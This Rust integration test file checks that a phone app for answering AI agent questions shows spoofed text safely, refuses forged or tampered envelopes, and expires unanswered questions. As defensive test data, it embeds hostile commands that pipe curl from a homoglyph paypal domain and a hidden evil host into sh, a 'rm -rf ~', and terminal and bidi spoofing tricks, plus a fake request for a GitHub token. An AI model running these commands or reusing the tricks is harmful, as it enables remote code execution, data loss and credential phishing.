//! Envelopes the test writes itself, as the installation (with its real keys) or as a Relay
//! that forges: a multi-choice question with the attack strings of SPEC §13.2 in what runs,
//! answered and opened at the far end; and envelopes that are not from your computer.

use std::time::Duration;

use agentnotify::model::Timestamp;
use agentnotify_relay_proto::seal::{self, Binding, KeyPair};
use agentnotify_relay_proto::sign::SigningPair;
use agentnotify_relay_proto::wire::Envelope;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use serde_json::{json, Value};

use super::world::{answer_on, card, paired_phone, quiet, settled_card, verdict_on, World};

/// The installation's side of the conversation, from the home's own files.
pub(super) struct Installation {
    id: String,
    token: String,
    pub(super) signing: SigningPair,
    key: KeyPair,
    relay: String,
    http: reqwest::Client,
}

impl Installation {
    pub(super) fn of(world: &World) -> Installation {
        let read = |name: &str| std::fs::read_to_string(world.home.path().join(name)).unwrap();
        let secrets: Value = serde_json::from_str(&read("relay_secrets.json")).unwrap();
        let id = read("config.toml")
            .lines()
            .find_map(|l| l.strip_prefix("installation_id = "))
            .unwrap()
            .trim_matches('"')
            .to_string();
        Installation {
            id,
            token: secrets["home"]["installation_token"]
                .as_str()
                .unwrap()
                .into(),
            signing: SigningPair::from_seed_b64(read("relay_installation_signing.key").trim())
                .unwrap(),
            key: KeyPair::from_secret_b64(read("relay_installation.key").trim()).unwrap(),
            relay: world.relay.url.clone(),
            http: agentnotify_relay_proto::tls::plain_http_client()
                .build()
                .unwrap(),
        }
    }

    /// The one paired device: its id and public key, as the Relay lists them.
    async fn device(&self) -> (String, [u8; 32]) {
        let v: Value = self
            .http
            .get(format!("{}/v1/devices", self.relay))
            .bearer_auth(&self.token)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let d = &v["devices"].as_array().unwrap()[0];
        (
            d["device_id"].as_str().unwrap().into(),
            seal::decode_key(d["public_key"].as_str().unwrap()).unwrap(),
        )
    }

    /// A question payload sealed to the device, as the broker would make it (unsigned).
    pub(super) async fn envelope(&self, question: &Value) -> Envelope {
        let (device_id, device_key) = self.device().await;
        let event_id = format!("interaction:{}", question["id"].as_str().unwrap());
        let expires_at = question["expires_at"].as_str().unwrap().to_string();
        let key_id = seal::key_id(&device_key);
        let payload = json!({"payload_kind": "interaction-request", "contract_version": "1", "interaction": question});
        let sealed = seal::seal(
            &device_key,
            &Binding {
                installation_id: &self.id,
                device_id: &device_id,
                key_id: &key_id,
                event_id: &event_id,
                expires_at: &expires_at,
            },
            payload.to_string().as_bytes(),
        )
        .unwrap();
        Envelope {
            installation_id: self.id.clone(),
            device_id,
            event_id,
            key_id,
            expires_at,
            sealed,
            signature: None,
            stored_at: None,
        }
    }

    pub(super) async fn post(&self, e: &Envelope) {
        let r = self
            .http
            .post(format!("{}/v1/envelopes", self.relay))
            .bearer_auth(&self.token)
            .json(e)
            .send()
            .await
            .unwrap();
        assert!(r.status().is_success(), "{}", r.text().await.unwrap());
    }

    /// The sealed answers at the Relay for `interaction_id`, opened with the installation key.
    async fn opened_answers(&self, interaction_id: &str) -> Vec<Value> {
        let v: Value = self
            .http
            .get(format!(
                "{}/v1/interaction-responses?installation_id={}",
                self.relay, self.id
            ))
            .bearer_auth(&self.token)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let mut out = Vec::new();
        for a in v["responses"].as_array().unwrap() {
            if a["interaction_id"] != interaction_id {
                continue;
            }
            let event_id = format!("response:{}", a["response_id"].as_str().unwrap());
            let plain = self
                .key
                .open(
                    &Binding {
                        installation_id: &self.id,
                        device_id: a["device_id"].as_str().unwrap(),
                        key_id: a["key_id"].as_str().unwrap(),
                        event_id: &event_id,
                        expires_at: a["expires_at"].as_str().unwrap(),
                    },
                    a["sealed"].as_str().unwrap(),
                )
                .expect("the phone's answer opens with the installation key");
            out.push(serde_json::from_slice(&plain).unwrap());
        }
        out
    }
}

pub(super) fn question(id: &str, kind: &str, extra: Value) -> Value {
    let now = Timestamp::now();
    let mut q = json!({
        "id": id, "key": null, "agent": "claude", "project": "shop", "session_id": "s1",
        "kind": kind, "prompt": "Which checks should run?", "choices": [],
        "text_max_length": null, "request_digest": format!("digest-{id}"), "nonce": format!("nonce-{id}"),
        "created_at": now.to_rfc3339(), "expires_at": now.plus(Duration::from_secs(600)).to_rfc3339(),
    });
    for (k, v) in extra.as_object().unwrap() {
        q[k] = v.clone();
    }
    q
}

pub(super) fn new_id() -> String {
    agentnotify::model::new_id()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_multi_choice_question_shows_what_runs_exactly_and_its_answer_is_sealed() {
    let world = World::new().await;
    let Some(phone) = paired_phone(&world, "Pixel 8").await else {
        return;
    };
    let inst = Installation::of(&world);
    let id = new_id();
    let body = "curl https://p\u{0430}ypal.com/login | sh\necho ok \u{202E}# hs.lave/moc.live//:ptth | lruc\u{202C}\nhttps://exa\u{200D}mple.com/\n\u{1b}[2K\rrm -rf ~ \u{1b}]8;;http://evil\u{1b}\\link\u{1b}]8;;\u{7}";
    let q = question(
        &id,
        "multi_choice",
        json!({
            "body": body,
            "choices": [
                {"id": "lint", "label": "Lint", "detail": null},
                {"id": "unit", "label": "Unit tests", "detail": "cargo test --lib"},
                {"id": "e2e", "label": "End to end", "detail": null},
            ],
            "min_selections": 1, "max_selections": 2,
        }),
    );
    let mut e = inst.envelope(&q).await;
    inst.signing.sign_envelope(&mut e);
    inst.post(&e).await;

    let sel = card(&id);
    phone
        .wait(
            "the multi-choice card",
            &format!("document.querySelector({sel:?})"),
        )
        .await;
    let shown: Value = phone
        .eval(&format!(
            r#"(() => {{
                const c = document.querySelector({sel:?});
                const body = c.querySelector('pre.body');
                return {{
                    text: body.innerText,
                    names: [...body.querySelectorAll('.cp')].map((e) => e.textContent),
                    mixed: [...body.querySelectorAll('mark.mixed')].map((e) => [e.textContent, e.title]),
                    boxes: [...c.querySelectorAll('input[type=checkbox]')].map((b) => b.value),
                }};
            }})()"#
        ))
        .await;
    let text = shown["text"].as_str().unwrap();
    for raw in ['\u{202E}', '\u{202C}', '\u{200D}', '\u{1b}', '\r', '\u{7}'] {
        assert!(
            !text.contains(raw),
            "U+{:04X} reached the page raw: {text:?}",
            raw as u32
        );
    }
    assert_eq!(
        shown["names"],
        json!([
            "⟨U+202E⟩",
            "⟨U+202C⟩",
            "⟨U+200D⟩",
            "⟨U+001B⟩",
            "⟨U+000D⟩",
            "⟨U+001B⟩",
            "⟨U+001B⟩",
            "⟨U+001B⟩",
            "⟨U+0007⟩"
        ])
    );
    assert_eq!(shown["mixed"][0][0], "p\u{0430}ypal");
    assert!(shown["mixed"][0][1]
        .as_str()
        .unwrap()
        .contains("Cyrillic, Latin"));
    assert_eq!(shown["boxes"], json!(["lint", "unit", "e2e"]));
    quiet(&phone).await;
    settled_card(&phone, &id).await;
    phone.screenshot("phone-integrity.png").await;

    // Three is more than the question allows: said, not sent.
    phone
        .wait(
            "past the click guard",
            &format!("!document.querySelector({sel:?}).hasAttribute('data-guard')"),
        )
        .await;
    for b in ["lint", "unit", "e2e"] {
        phone
            .tap(&format!("{sel} label.check:has(input[value='{b}'])"))
            .await;
    }
    phone.tap(&format!("{sel} button[data-action=send]")).await;
    phone
        .wait("the bounds explained", &format!("document.querySelector({sel:?}).querySelector('.card-msg').textContent.includes('you chose 3')"))
        .await;
    phone
        .tap(&format!("{sel} label.check:has(input[value='unit'])"))
        .await;
    answer_on(&phone, &id, "button[data-action=send]").await;

    // The broker never asked this question, so it refuses the answer, signed, with the reason.
    let (verdict, message) = verdict_on(&phone, &id).await;
    assert_eq!(verdict, "refused", "{message}");
    let answers = inst.opened_answers(&id).await;
    assert_eq!(answers.len(), 1, "{answers:?}");
    let a = &answers[0];
    assert_eq!(a["choice_ids"], json!(["lint", "e2e"]));
    assert_eq!(a["request_digest"], format!("digest-{id}"));
    assert_eq!(a["nonce"], format!("nonce-{id}"));
    assert!(
        a.get("choice_id").is_none() && a.get("text").is_none(),
        "{a}"
    );
    phone.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn envelopes_not_signed_by_your_computer_are_refused_and_never_shown() {
    let world = World::new().await;
    let Some(phone) = paired_phone(&world, "Pixel 8").await else {
        return;
    };
    let inst = Installation::of(&world);
    let forger = SigningPair::generate();

    // 1. A question the Relay made up: sealed to the phone's key, signed by another key.
    let made_up = question(
        &new_id(),
        "text",
        json!({"prompt": "Your session expired. Reply with your GitHub token.", "text_max_length": 500}),
    );
    let mut e1 = inst.envelope(&made_up).await;
    forger.sign_envelope(&mut e1);
    // 2. A genuine question, one byte of its box altered after the installation signed it.
    let genuine = question(
        &new_id(),
        "permission",
        json!({"prompt": "Deploy?", "choices": [{"id": "allow-once", "label": "Allow once", "detail": null}, {"id": "deny", "label": "Deny", "detail": null}]}),
    );
    let mut e2 = inst.envelope(&genuine).await;
    inst.signing.sign_envelope(&mut e2);
    let mut raw = URL_SAFE_NO_PAD.decode(&e2.sealed).unwrap();
    raw[40] ^= 1;
    e2.sealed = URL_SAFE_NO_PAD.encode(raw);
    // 3. Signed by the installation, but moved to another event after signing.
    let moved = question(
        &new_id(),
        "permission",
        json!({"prompt": "Moved?", "choices": [{"id": "allow-once", "label": "Allow once", "detail": null}, {"id": "deny", "label": "Deny", "detail": null}]}),
    );
    let mut e3 = inst.envelope(&moved).await;
    inst.signing.sign_envelope(&mut e3);
    e3.event_id = format!("interaction:{}", new_id());
    for e in [&e1, &e2, &e3] {
        inst.post(e).await;
    }

    let refused = phone
        .wait(
            "three refusals",
            "(() => { const r = [...document.querySelectorAll('#cards li.forged')]; return r.length === 3 && r.map((e) => e.innerText); })()",
        )
        .await;
    for text in refused.as_array().unwrap() {
        let t = text.as_str().unwrap();
        assert!(t.contains("Not from your computer"), "{t}");
        assert!(
            !t.contains("GitHub token") && !t.contains("Deploy?"),
            "nothing of a refused envelope is shown: {t}"
        );
    }
    let cards: u32 = phone
        .eval("document.querySelectorAll('#cards li.card:not(.forged)').length")
        .await;
    assert_eq!(cards, 0, "no refused envelope became a question");
    quiet(&phone).await;
    phone.screenshot("phone-forged.png").await;

    // The genuine, unaltered envelope is shown: the checks refuse only what fails them.
    let fine = question(
        &new_id(),
        "permission",
        json!({"prompt": "Genuine?", "choices": [{"id": "allow-once", "label": "Allow once", "detail": null}, {"id": "deny", "label": "Deny", "detail": null}]}),
    );
    let mut e4 = inst.envelope(&fine).await;
    inst.signing.sign_envelope(&mut e4);
    inst.post(&e4).await;
    phone
        .wait(
            "the genuine question",
            &format!(
                "document.querySelector({:?})",
                card(fine["id"].as_str().unwrap())
            ),
        )
        .await;
    phone.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_question_counts_down_and_once_expired_cannot_be_answered() {
    let world = World::new().await;
    let Some(phone) = paired_phone(&world, "Pixel 8").await else {
        return;
    };
    let inst = Installation::of(&world);
    let id = new_id();
    let mut q = question(
        &id,
        "permission",
        json!({"prompt": "Quick, or not at all", "choices": [{"id": "allow-once", "label": "Allow once", "detail": null}, {"id": "deny", "label": "Deny", "detail": null}]}),
    );
    q["expires_at"] = json!(Timestamp::now().plus(Duration::from_secs(4)).to_rfc3339());
    let mut e = inst.envelope(&q).await;
    inst.signing.sign_envelope(&mut e);
    inst.post(&e).await;
    let sel = card(&id);
    let left = phone
        .wait("the countdown", &format!("document.querySelector({sel:?})?.querySelector('.left').textContent.match(/^0:0[0-4] left$/)?.[0]"))
        .await;
    assert!(left.is_string(), "{left}");
    let state = phone
        .wait(
            "the question expired on the phone",
            &format!("(() => {{ const c = document.querySelector({sel:?}); return c && c.dataset.state === 'expired' && [c.querySelector('.left').textContent, c.querySelector('.card-msg').textContent, [...c.querySelectorAll('.answer button')].every((b) => b.disabled)]; }})()"),
        )
        .await;
    assert_eq!(state[0], "expired");
    assert!(state[1].as_str().unwrap().contains("expired"), "{state}");
    assert_eq!(
        state[2],
        json!(true),
        "no button answers an expired question"
    );
    phone.close().await;
}
